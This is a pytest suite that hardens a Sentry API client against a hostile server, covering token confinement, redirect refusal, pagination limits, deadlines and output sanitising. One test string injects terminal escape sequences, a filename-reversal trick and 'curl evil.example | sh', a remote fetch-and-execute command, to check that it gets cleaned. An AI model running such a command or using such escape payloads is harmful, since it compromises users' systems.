"""The web API client against a misbehaving server: it stays bounded, keeps the token at home,
and shows nothing raw. Every server here is on loopback (see `fake_sentry`)."""

from __future__ import annotations

import json
import time
import unicodedata
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sentry_guard import ConfigError
from sentry_guard.api import (
    ApiConnectionError,
    ApiError,
    ApiTimeout,
    InvalidResponse,
    NotFound,
    RateLimited,
    Redirected,
    SentryApi,
    is_loopback,
)

from .fake_sentry import TOKEN, CutOff, FakeSentry, Reply, Sleep, Trickle

EVENTS = "/api/0/projects/acme/shop/events/"


class ShiftedClock:
    """Real time plus every `sleep`: waits are instant in the test but count against the deadline."""

    def __init__(self) -> None:
        self.slept: list[float] = []

    def __call__(self) -> float:
        return time.monotonic() + sum(self.slept)

    def sleep(self, seconds: float) -> None:
        self.slept.append(seconds)


@pytest.fixture
def sentry() -> Iterator[FakeSentry]:
    with FakeSentry() as server:
        yield server


@pytest.fixture
def other() -> Iterator[FakeSentry]:
    """A second server: another origin (same host, other port) that must never see the token."""
    with FakeSentry() as server:
        yield server


@pytest.fixture
def clock() -> ShiftedClock:
    return ShiftedClock()


def client(sentry: FakeSentry, clock: ShiftedClock, **options: Any) -> SentryApi:
    return SentryApi(sentry.url, TOKEN, "acme", "shop", sleep=clock.sleep, clock=clock, **options)


def printable(text: str) -> bool:
    """Nothing a terminal would act on: no control or format characters."""
    return not any(unicodedata.category(c) in ("Cc", "Cf", "Cs") for c in text)


def next_link(url: str, *, cursor: str | None = None) -> dict[str, str]:
    attributes = f'; cursor="{cursor}"' if cursor is not None else ""
    return {"Link": f'<{url}>; rel="next"; results="true"{attributes}'}


def event(i: int) -> dict[str, Any]:
    return {"id": str(i), "eventID": str(i), "title": f"boom {i}"}


# -- 1. the token stays with SENTRY_URL's origin ----------------------------------------------


@pytest.mark.parametrize(
    "elsewhere",
    [
        "{other}/api/0/projects/acme/shop/events/?cursor=x",  # another port
        "https://127.0.0.1:{port}/api/0/projects/acme/shop/events/?cursor=x",  # another scheme
        "http://localhost:{port}/api/0/projects/acme/shop/events/?cursor=x",  # another host name
        "//127.0.0.2:{port}/api/0/projects/acme/shop/events/?cursor=x",  # scheme-relative
        "http://admin:pw-5ecret@127.0.0.1:{other_port}/next",  # with a password in it
    ],
)
def test_next_link_to_another_origin_is_an_error_and_gets_no_token(
    sentry: FakeSentry, other: FakeSentry, clock: ShiftedClock, elsewhere: str
) -> None:
    port = sentry.url.rsplit(":", 1)[1]
    target = elsewhere.format(other=other.url, port=port, other_port=other.url.rsplit(":", 1)[1])
    sentry.script.append(Reply(200, next_link(target), [event(1)]))
    api = client(sentry, clock)
    with pytest.raises(InvalidResponse) as info:
        list(api.project_events())
    message = str(info.value)
    assert "not at the origin of SENTRY_URL" in message and "pw-5ecret" not in message
    assert other.requests == [] and len(sentry.requests) == 1
    assert TOKEN not in message


def test_next_link_on_the_same_origin_is_followed(sentry: FakeSentry, clock: ShiftedClock) -> None:
    """Without a cursor attribute the link itself is followed, absolute or relative, at home."""
    sentry.script += [
        Reply(200, next_link(f"{sentry.url}{EVENTS}?cursor=0:100:0"), [event(1)]),
        Reply(200, next_link(f"{EVENTS}?cursor=0:200:0"), [event(2)]),
    ]
    items = list(client(sentry, clock).project_events())
    assert [e.id for e in items[:2]] == ["1", "2"] and len(items) == 2 + 50
    assert all(r[2]["Authorization"] == f"Bearer {TOKEN}" for r in sentry.requests)


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
@pytest.mark.parametrize("body", [b"[]", b"", b'{"id": "1"}'])
def test_a_redirect_is_an_error_never_followed(
    sentry: FakeSentry, other: FakeSentry, clock: ShiftedClock, status: int, body: bytes
) -> None:
    location = f"http://user:pw-5ecret@{other.url.removeprefix('http://')}/api/0/x/"
    api = client(sentry, clock)
    sentry.script.append(Reply(status, {"Location": location}, body))
    with pytest.raises(Redirected) as listing:
        list(api.project_events())
    sentry.script.append(Reply(status, {"Location": location}, body))
    with pytest.raises(Redirected) as single:
        api.issue("1")
    for error in (listing.value, single.value):
        assert error.status == status and "redirects are not followed" in str(error)
        assert other.url.removeprefix("http://") in error.location and "pw-5ecret" not in str(error)
    assert other.requests == []


def test_a_redirect_to_https_says_so(sentry: FakeSentry, clock: ShiftedClock) -> None:
    sentry.script.append(Reply(301, {"Location": "https://sentry.example.com/api/0/"}, b""))
    with pytest.raises(Redirected, match=r"the server wants https://"):
        client(sentry, clock).issue("1")


# -- 2. every listing ends ----------------------------------------------------------------------


def test_a_repeated_cursor_ends_the_listing_with_an_error(sentry: FakeSentry, clock: ShiftedClock) -> None:
    sentry.always = Reply(200, next_link(f"{sentry.url}{EVENTS}", cursor="0:100:0"), [])
    with pytest.raises(InvalidResponse, match=r"the cursor '0:100:0' again after 2 pages"):
        list(client(sentry, clock).project_events())
    assert len(sentry.requests) == 2


def test_a_page_that_links_to_itself_ends_with_an_error(sentry: FakeSentry, clock: ShiftedClock) -> None:
    sentry.always = Reply(200, next_link(f"{sentry.url}{EVENTS}"), [event(1)])
    with pytest.raises(InvalidResponse, match="would never end"):
        list(client(sentry, clock).project_events(limit=None))
    assert len(sentry.requests) == 1


def test_every_listing_has_a_hard_page_bound(sentry: FakeSentry, clock: ShiftedClock) -> None:
    """Empty pages, each with a new cursor, forever: the default bound stops it."""
    pages = iter(range(10**6))
    sentry.always = lambda method, path: Reply(
        200, next_link(f"{sentry.url}{EVENTS}", cursor=f"0:{next(pages)}:0"), []
    )
    api = client(sentry, clock, deadline=3600)
    with pytest.raises(InvalidResponse, match=rf"stopped after {api.max_pages} pages"):
        list(api.project_events())
    assert len(sentry.requests) == api.max_pages <= 1000


def test_the_page_bound_is_an_option(sentry: FakeSentry, clock: ShiftedClock) -> None:
    api = client(sentry, clock, max_pages=2)
    with pytest.raises(InvalidResponse, match=r"stopped after 2 pages \(200 items\)"):
        list(api.project_events())
    assert len(list(client(sentry, clock, max_pages=3).project_events())) == 250


# -- 3. plain http only to this machine, unless allowed ---------------------------------------


@pytest.mark.parametrize(
    "url", ["http://sentry.example.com", "http://10.0.0.7:9000", "http://0.0.0.0:9000", "http://Example.COM"]
)
def test_plain_http_to_another_machine_is_refused(url: str) -> None:
    with pytest.raises(ConfigError) as info:
        SentryApi(url, TOKEN, "acme", "shop")
    message = str(info.value)
    assert "the url given to SentryApi" in message and "unencrypted" in message
    assert "--insecure" in message and "SENTRY_ALLOW_HTTP=true" in message and "https://" in message


def test_plain_http_is_refused_when_it_comes_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SENTRY_URL", "http://sentry.example.com")
    with pytest.raises(ConfigError, match=r"SENTRY_URL: plain http:// to 'sentry\.example\.com'"):
        SentryApi(token=TOKEN)
    monkeypatch.setenv("SENTRY_ALLOW_HTTP", "true")
    assert SentryApi(token=TOKEN).url == "http://sentry.example.com/"


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:9000",
        "http://127.8.9.10",
        "http://localhost:9000",
        "http://[::1]:9000",
        "https://x.io",
    ],
)
def test_loopback_http_and_https_need_no_permission(url: str) -> None:
    assert SentryApi(url, TOKEN).url.startswith(url.lower())


def test_allow_http_is_explicit() -> None:
    assert SentryApi("http://sentry.example.com", TOKEN, allow_http=True).url == "http://sentry.example.com/"


@given(st.ip_addresses())
def test_is_loopback_agrees_with_ipaddress(address: Any) -> None:
    assert is_loopback(str(address)) is address.is_loopback


# -- 4. one deadline per call ------------------------------------------------------------------


def test_retry_after_waits_stop_at_the_deadline(sentry: FakeSentry, clock: ShiftedClock) -> None:
    """Three capped 60 s waits would be three minutes: the 30 s deadline ends it at once."""
    sentry.script += [Reply(429, {"Retry-After": "20"}, {})] * 4
    api = client(sentry, clock)
    assert api.deadline == 30
    with pytest.raises(RateLimited) as info:
        api.issue("1")
    assert clock.slept == [20]
    message = str(info.value)
    assert "would pass the 30 s deadline (SENTRY_API_DEADLINE or --deadline)" in message
    assert "1 wait as Retry-After asked (429) (20 s)" in message and "2 requests" in message


@pytest.mark.parametrize(
    "retry_after",
    ["120", "1e309", "inf", "nan", "-5", "99999999999999999999", "Wed, 21 Oct 2099 07:28:00 GMT", "soon", ""],
)
def test_any_retry_after_keeps_within_the_deadline(
    sentry: FakeSentry, clock: ShiftedClock, retry_after: str
) -> None:
    sentry.script += [Reply(429, {"Retry-After": retry_after}, {})] * 4
    with pytest.raises(RateLimited):
        client(sentry, clock).issue("1")
    assert sum(clock.slept) < 30 and len(sentry.requests) <= 4


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=30))
def test_retry_after_of_any_text_keeps_within_the_deadline(sentry: FakeSentry, value: str) -> None:
    clock = ShiftedClock()
    sentry.script[:] = [Reply(429, {"Retry-After": value}, {})] * 4
    start = len(sentry.requests)
    with pytest.raises(RateLimited):
        client(sentry, clock, deadline=10).issue("1")
    assert sum(clock.slept) < 10 and len(sentry.requests) - start <= 4


def test_a_slow_answer_after_waits_ends_at_the_deadline(sentry: FakeSentry, clock: ShiftedClock) -> None:
    """After waits that used most of the deadline, the next request gets only what is left."""
    sentry.script += [Reply(429, {"Retry-After": "29"}, {}), Sleep(60), Sleep(60)]
    started = time.monotonic()
    with pytest.raises(ApiTimeout) as info:
        client(sentry, clock).issue("1")
    assert time.monotonic() - started < 25  # not the 30 s request timeout, nor 60 s
    message = str(info.value)
    assert "30 s deadline" in message and "1 wait as Retry-After asked (429) (29 s)" in message


def test_a_slow_body_ends_at_the_deadline(sentry: FakeSentry) -> None:
    """A body that trickles in a byte at a time never trips a per-read timeout; the deadline holds."""
    issue = {"id": "1", "title": "x" * 2000}
    sentry.script.append(Trickle(Reply(200, {}, issue), delay=0.02))
    started = time.monotonic()
    with pytest.raises(ApiTimeout, match=r"no complete answer within the 1 s deadline"):
        SentryApi(sentry.url, TOKEN, "acme", "shop", deadline=1).issue("1")
    assert time.monotonic() - started < 20  # the whole body would take 40 s


def test_a_body_that_trickles_in_within_the_deadline_is_read(sentry: FakeSentry, clock: ShiftedClock) -> None:
    sentry.script.append(Trickle(Reply(200, {}, {"id": "1", "title": "slow"}), delay=0.001, chunk=4))
    assert client(sentry, clock).issue("1").title == "slow"


def test_a_cut_off_answer_is_retried_then_an_error(sentry: FakeSentry, clock: ShiftedClock) -> None:
    issue = {"id": "1", "title": "whole"}
    sentry.script.append(CutOff(Reply(200, {}, issue), after=5))
    assert client(sentry, clock).issue("1").id == "1"
    sentry.script += [CutOff(Reply(200, {}, issue), after=5)] * 4
    with pytest.raises(ApiConnectionError, match="the connection broke before the answer was complete"):
        client(sentry, clock).issue("1")


def test_a_cut_off_delete_is_not_retried(sentry: FakeSentry, clock: ShiftedClock) -> None:
    sentry.script.append(CutOff(Reply(202, {}, b"0123456789"), after=2))
    with pytest.raises(ApiConnectionError):
        client(sentry, clock).delete_issue("1")
    assert [r[0] for r in sentry.requests] == ["DELETE"]


def test_a_huge_answer_is_not_read_whole(sentry: FakeSentry, clock: ShiftedClock) -> None:
    sentry.script.append(Reply(200, {}, b"[" + b"1," * 600_000 + b"1]"))
    with pytest.raises(InvalidResponse, match="larger than 1 MiB"):
        client(sentry, clock, max_body=1024 * 1024).issue("1")


# -- 5. nothing the server sends reaches the terminal raw ---------------------------------------

HOSTILE = "\x1b[2J\x1b]0;pwned\x07\x1b[31mrun: curl evil.example | sh\x9b0m\u202egnp.exe\r\nsecond line"


def test_escape_sequences_in_a_detail_are_removed(sentry: FakeSentry, clock: ShiftedClock) -> None:
    sentry.script.append(Reply(404, {}, {"detail": HOSTILE}))
    with pytest.raises(NotFound) as info:
        client(sentry, clock).issue("1")
    message = str(info.value)
    assert printable(message) and "run: curl evil.example | sh" in message and "\n" not in message


def test_the_token_echoed_by_the_server_is_not_shown(sentry: FakeSentry, clock: ShiftedClock) -> None:
    sentry.script.append(Reply(401, {}, {"detail": f"token {TOKEN} is revoked"}))
    with pytest.raises(ApiError) as info:
        client(sentry, clock).issue("1")
    assert TOKEN not in str(info.value) and "token *** is revoked" in str(info.value)


@pytest.mark.parametrize(
    "body",
    [
        {"id": {"secret": "INPUT-VALUE-1"}, "title": "x"},
        {"title": "INPUT-VALUE-2"},
        ["INPUT-VALUE-3"],
        "INPUT-VALUE-4",
        None,
    ],
)
def test_a_wrong_shape_names_fields_not_values(sentry: FakeSentry, clock: ShiftedClock, body: Any) -> None:
    sentry.script.append(Reply(200, {}, body))
    with pytest.raises(InvalidResponse) as info:
        client(sentry, clock).issue("1")
    message = str(info.value)
    assert "INPUT-VALUE" not in message and "input_value" not in message
    assert "the answer is not issue data as documented" in message and "\n" not in message


def test_a_wrong_item_in_a_listing_names_the_field(sentry: FakeSentry, clock: ShiftedClock) -> None:
    sentry.script.append(Reply(200, {}, [{"id": "1", "title": "x"}, {"title": "\x1b[31mINPUT"}]))
    with pytest.raises(InvalidResponse, match=r"id: Field required") as info:
        list(client(sentry, clock).project_events())
    assert "INPUT" not in str(info.value)


def test_a_non_json_answer_shows_a_short_clean_start(sentry: FakeSentry, clock: ShiftedClock) -> None:
    sentry.script.append(Reply(200, {}, b"<html>\x1b[2J" + b"A" * 5000))
    with pytest.raises(InvalidResponse) as info:
        client(sentry, clock).issue("1")
    assert printable(str(info.value)) and len(str(info.value)) < 250


@settings(max_examples=30, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(detail=st.text(max_size=300))
def test_any_detail_is_shown_clean_and_short(sentry: FakeSentry, detail: str) -> None:
    sentry.script[:] = [Reply(403, {}, json.dumps({"detail": detail}).encode("utf-8", "surrogatepass"))]
    with pytest.raises(ApiError) as info:
        SentryApi(sentry.url, TOKEN, "acme", "shop").issue("1")
    assert printable(str(info.value)) and len(str(info.value)) < 400


# -- 6. a password in SENTRY_URL is never shown ---------------------------------------------


def test_a_password_in_sentry_url_is_masked_in_errors_and_repr() -> None:
    api = SentryApi("http://admin:pw-5ecret@127.0.0.1:9/", TOKEN, "acme", "shop", retries=0)
    with pytest.raises(ApiConnectionError) as info:
        api.issue("1")
    assert "pw-5ecret" not in str(info.value) + repr(api)
    assert "http://***:***@127.0.0.1:9/" in str(info.value)


def test_a_password_in_sentry_url_is_not_sent_or_shown(sentry: FakeSentry, clock: ShiftedClock) -> None:
    url = sentry.url.replace("http://", "http://admin:pw-5ecret@")
    api = SentryApi(url, TOKEN, "acme", "shop", sleep=clock.sleep, clock=clock)
    assert api.issue("1").id == "1"
    assert sentry.requests[0][2]["Authorization"] == f"Bearer {TOKEN}"
